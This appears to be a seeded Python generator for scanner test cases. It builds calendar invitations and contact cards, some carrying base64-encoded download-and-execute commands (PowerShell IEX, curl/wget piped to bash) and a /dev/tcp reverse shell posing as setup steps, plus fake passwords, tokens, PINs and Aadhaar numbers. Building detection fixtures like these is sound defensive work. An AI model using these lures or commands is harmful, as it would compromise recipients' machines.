# Generates the hundred-and-seventy-third content corpus (cases-173.jsonl): two narrowings after review, written BEFORE
# the rules changed, each class beside honest twins `ok173…` from the same carriers:
#   pd173a  an Aadhaar grouped by four whose check fails, with "not sure" after it about something else (whether a team
#           needs it, which form it goes on): a person's number as written, the caveat is not about the number;
#   ok173a  an Aadhaar grouped by four whose check fails and that the text says may not be right ("not sure it is
#           right", "not sure the digits are correct"): no one's as written;
#   enc173a a script encoded in base64 (`powershell -enc`, `base64 -d | bash`) in a calendar invitation's DESCRIPTION or a
#           contact card's NOTE, the line folded as the formats fold it (a CRLF or LF and one blank or tab) inside the blob;
#   cr173a  a password, an access token or a card PIN in a DESCRIPTION or NOTE, folded inside the value;
#   ok173b  honest folded invitations and cards: a long agenda folded mid-word, a join link, a meeting id and a dial-in
#           PIN (not a credential: the label decision of cases-168), a contact photo or an attachment in folded base64
#           (an image, a PDF: bytes, no script), a folded file hash and UID.
# Deterministic (seeded). Run: python3 test/corpus-content/generate173.py
import base64, functools, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus, DIGITS, verhoeff
corpus = Corpus(20261730)
r = corpus.r

FIRSTS = ['Meera', 'Arjun', 'Solveig', 'Tomasz', 'Leila', 'Jonas', 'Nadia', 'Kenji', 'Ines', 'Oskar']
LASTS = ['Pillai', 'Rao', 'Berglund', 'Zielinski', 'Haddad', 'Brandt', 'Okafor', 'Sato', 'Moreau', 'Lund']
DOMAINS = ['fjordline.example', 'corvid-analytics.example', 'northgate.example', 'helix-hr.example']
def person(): return f'{r.choice(FIRSTS)} {r.choice(LASTS)}'
def num(a, b): return r.randint(a, b)
def day(): return f'2026{num(1, 12):02d}{num(1, 28):02d}'
def b64(b): return base64.b64encode(b if isinstance(b, bytes) else b.encode()).decode()


# Folding: the content line cut at `cuts` (offsets into it) and every 74 code units around them, each cut written as a
# break and one blank or tab (RFC 5545 3.1, RFC 6350 3.2).
def fold(line, cut, brk='\r\n', blank=' '):
    cuts = {cut}
    k = cut - 74
    while k > 0:
        cuts.add(k)
        k -= 74
    k = cut + 74
    while k < len(line):
        cuts.add(k)
        k += 74
    out, at = '', 0
    for c in sorted(cuts):
        out += line[at:c] + brk + blank
        at = c
    return out + line[at:]
def ics_escape(t): return t.replace('\\', '\\\\').replace('\n', '\\n').replace(',', '\\,').replace(';', '\\;')

def ics(desc_line, brk='\r\n', summary=None, extra=''):
    n = person()
    lines = ['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//Corvid//Calendar 4.2//EN', 'METHOD:REQUEST', 'BEGIN:VEVENT',
             f'UID:{corpus.rs("0123456789abcdef", 24)}@{r.choice(DOMAINS)}', f'DTSTART:{day()}T{num(8, 16):02d}0000Z',
             f'SUMMARY:{summary or r.choice(["Quarterly review", "Vendor onboarding", "Interview panel", "Data sync"])}',
             f'ORGANIZER;CN={n}:mailto:{n.split()[0].lower()}@{r.choice(DOMAINS)}', desc_line]
    if extra: lines.append(extra)
    lines += ['END:VEVENT', 'END:VCALENDAR']
    return brk.join(lines)
def vcard(note_line, brk='\r\n', extra=''):
    n = person()
    lines = ['BEGIN:VCARD', 'VERSION:3.0', f'FN:{n}', f'N:{n.split()[1]};{n.split()[0]};;;',
             f'EMAIL;TYPE=work:{n.split()[0].lower()}@{r.choice(DOMAINS)}', f'TEL;TYPE=cell:+47 {num(400, 999)} {num(10, 99)} {num(100, 999)}']
    if extra: lines.append(extra)
    lines += [note_line, 'END:VCARD']
    return brk.join(lines)
FOLDS = [('\r\n', ' '), ('\n', ' '), ('\r\n', '\t'), ('\n', '\t')]


# --- pd173a / ok173a: an Aadhaar failing its check, "not sure" about something else or about the number.
def aadhaar_failing():
    p = str(num(2, 9)) + corpus.rs(DIGITS, 10)
    d = str((int(verhoeff(p)) + num(1, 9)) % 10)
    n = p + d
    return f'{n[:4]} {n[4:8]} {n[8:]}'
def c_mail(t):
    n = person()
    return f'From: {n} <{n.split()[0].lower()}@{r.choice(DOMAINS)}>\nSubject: {r.choice(["Onboarding papers", "KYC follow-up", "Forms"])}\n\nHi,\n\n{t}\n\nThanks,\n{n.split()[0]}'
def c_csv(t):
    q = t.replace('"', '""')
    return f'emp_id,name,joined,remarks\nE-{num(1000, 9999)},{person()},2026-0{num(1, 9)}-1{num(0, 9)},-\nE-{num(1000, 9999)},{person()},2026-0{num(1, 9)}-2{num(0, 8)},"{q}"'
def c_json(t): return json.dumps({'employee': {'id': f'E-{num(1000, 9999)}', 'name': person(), 'onboarding_note': t}}, indent=2)
def c_chat(t): return f'[10:{num(10, 59)}] {person()}: {t}\n[10:{num(10, 59)}] {person()}: ok, noted'
AID_CARRIERS = [c_mail, c_csv, c_json, c_chat]
OTHER_DOUBT = ['Aadhaar {v} — not sure HR needs it for the contractor form', 'Aadhaar no. {v} (not sure which portal wants it)',
               'Her Aadhaar is {v}; not sure if payroll or HR files it', 'Aadhaar: {v} - not sure we still need a copy',
               'Aadhaar number {v}, not sure whether the bank asked for it too', 'KYC: Aadhaar {v} (not sure who keeps the scan)']
OWN_DOUBT = ['Aadhaar {v} — not sure it is right, please check with him', 'Aadhaar no. {v} (not sure this is correct)',
             'Her Aadhaar is {v}; not sure the digits are right', 'Aadhaar: {v} - not sure if that number is correct',
             "Aadhaar number {v}, I'm not sure it's right", 'KYC: Aadhaar {v} (not sure of the last digits)']
pos, secs = [], []
for i, t in enumerate(OTHER_DOUBT):
    v = aadhaar_failing()
    pos.append(AID_CARRIERS[i % 4](t.format(v=v)))
    secs.append(v)
corpus.add('pd173a', ['personal_data'], pos, wrap=False, secrets=secs)
corpus.add('ok173a', [], [AID_CARRIERS[(i + 1) % 4](t.format(v=aadhaar_failing())) for i, t in enumerate(OWN_DOUBT)], wrap=False)


# --- enc173a: an encoded script in a folded DESCRIPTION or NOTE, the fold inside the blob.
def ps_enc(script): return base64.b64encode(script.encode('utf-16-le')).decode()
SCRIPTS = ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{n}/agenda.ps1')",
           "Invoke-WebRequest -Uri http://203.0.113.{n}/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe",
           "IEX (Invoke-WebRequest -Uri 'http://192.0.2.{n}/r.ps1' -UseBasicParsing).Content"]
UNIX = ['curl -fsSL https://cdn-{h}.example/setup.sh | bash', 'wget -qO- http://198.51.100.{n}/x.sh | sh',
        'bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1']
pos = []
for i in range(8):
    brk, blank = FOLDS[i % 4]
    if i % 2 == 0:
        blob = ps_enc(SCRIPTS[i // 2 % 3].format(n=num(2, 250)))
        head = r.choice(['Before joining run this in PowerShell to install the room plug-in: powershell -enc ',
                         'Setup step for the panel laptop: powershell.exe -NoProfile -EncodedCommand '])
    else:
        blob = b64(UNIX[i // 2 % 3].format(n=num(2, 250), h=corpus.rs('abcdefgh', 5)))
        head = r.choice(['Mac users: paste this in Terminal first: echo ', 'To enable the recorder run: echo '])
        blob = blob + ' | base64 -d | bash'
    if i < 5:
        line = 'DESCRIPTION:' + ics_escape(head) + blob
        pos.append(ics(fold(line, len('DESCRIPTION:' + ics_escape(head)) + 17 + i, brk, blank), brk))
    else:
        line = 'NOTE:' + ics_escape(head) + blob
        pos.append(vcard(fold(line, len('NOTE:' + ics_escape(head)) + 13 + i, brk, blank), brk))
corpus.add('enc173a', ['encoded_payload'], pos, wrap=False)


# --- cr173a: a secret in a folded DESCRIPTION or NOTE, the fold inside the value.
def password(): return corpus.password(14)
SECRET_LINES = [
    ('NOTE', 'Online banking (personal): user {u}, password {s} - keep private'),
    ('DESCRIPTION', 'Shared drive for the panel: login {u} / password: {s}'),
    ('NOTE', 'Deploy bot token: {s} (rotate after the audit)'),
    ('DESCRIPTION', 'Stripe live key for the demo account: {s}'),
    ('NOTE', 'Portal login {u}, passwd={s}'),
    ('DESCRIPTION', 'Admin console: user {u} pass {s}'),
]
pos, secs = [], []
for i, (prop, t) in enumerate(SECRET_LINES):
    brk, blank = FOLDS[(i + 1) % 4]
    if 'bot token' in t: s = 'ghp_' + corpus.mixed(36)
    elif 'Stripe' in t: s = 'sk_live_' + corpus.mixed(24)
    else: s = password()
    u = r.choice(FIRSTS).lower() + str(num(10, 99))
    pre = prop + ':' + ics_escape(t.split('{s}')[0].format(u=u))
    line = pre + s + ics_escape(t.split('{s}')[1])
    cut = len(pre) + len(s) // 2
    secs.append([s[:len(s) // 2], s[len(s) // 2:]])
    pos.append((vcard if prop == 'NOTE' else ics)(fold(line, cut, brk, blank), brk))
# A card PIN split by the fold: its pieces are too short to look for alone, so the fold with them is.
for i, t in enumerate(['NOTE:Debit card PIN is {p} (for the caregiver\\, groceries only)', 'NOTE:Mum\'s bank card PIN: {p}']):
    brk, blank = FOLDS[i]
    p = str(num(1000, 9999))
    pre = t.split('{p}')[0]
    secs.append(p[:2] + brk + blank + p[2:])
    pos.append(vcard(fold(t.format(p=p), len(pre) + 2, brk, blank), brk))
corpus.add('cr173a', ['credential_leak'], pos, wrap=False, secrets=secs)


# --- ok173b: honest folded invitations and cards.
def photo(n=540):
    head = bytes([0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 0x4A, 0x46, 0x49, 0x46, 0x00, 0x01])
    return b64(head + bytes(r.randrange(256) for _ in range(n)))
def pdf(n=420): return b64(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n' + bytes(r.randrange(256) for _ in range(n)))
neg = []
agenda = ('Agenda: 1) review of the Q3 churn dashboard and the data dictionary changes; 2) the hiring plan for two analysts; '
          '3) open questions on the vendor contract. Please read the attached deck before the meeting and bring your numbers.')
neg.append(ics(fold('DESCRIPTION:' + ics_escape(agenda), 60)))
teams = (f'Microsoft Teams meeting\nJoin: https://teams.microsoft.com/l/meetup-join/19%3ameeting_{corpus.mixed(40)}%40thread.v2/0?context=%7b%22Tid%22%3a%22{corpus.rs("0123456789abcdef", 8)}%22%7d\n'
         f'Meeting ID: {num(100, 999)} {num(100, 999)} {num(100, 999)} {num(100, 999)}\nDial in: +47 21 {num(10, 99)} {num(10, 99)} {num(10, 99)}\nPhone conference ID: {num(100000000, 999999999)}#')
neg.append(ics(fold('DESCRIPTION:' + ics_escape(teams), 90), '\n'))
dial = f'Dial-in: +1 646 555 {num(1000, 9999)}\nParticipant PIN: {num(1000, 9999)} {num(1000, 9999)}#\nPlease mute when not speaking.'
line = 'DESCRIPTION:' + ics_escape(dial)
neg.append(ics(fold(line, line.index('PIN: ') + 7), '\r\n'))
neg.append(vcard(f'NOTE:Executive assistant to the CFO. Books travel and meetings; prefers e-mail before 9.', '\r\n',
                 fold('PHOTO;ENCODING=b;TYPE=JPEG:' + photo(), 75)))
neg.append(ics(fold('DESCRIPTION:' + ics_escape('Signed contract attached (PDF).'), 20), '\r\n',
               extra=fold('ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY:' + pdf(), 75, '\r\n', ' ')))
h = corpus.rs('0123456789abcdef', 64)
neg.append(ics(fold('DESCRIPTION:' + ics_escape(f'Release checklist. Build artifact sha256 {h}; verify before upload.'), 12 + 52), '\n'))
neg.append(vcard(fold('NOTE:' + ics_escape('Met at the analytics meetup. Interested in our survey tooling; follow up after the trial ends in March.'), 70, '\n', '\t'), '\n'))
note = 'Zoom: https://us02web.zoom.us/j/' + str(num(10**10, 10**11 - 1)) + '\nMeeting ID: ' + f'{num(100, 999)} {num(1000, 9999)} {num(1000, 9999)}' + '\nDial by your location: +44 20 3481 5240 (Participant PIN not needed)'
neg.append(ics(fold('DESCRIPTION:' + ics_escape(note), 50), '\r\n'))
corpus.add('ok173b', [], neg, wrap=False, source='file')

corpus.write('cases-173')
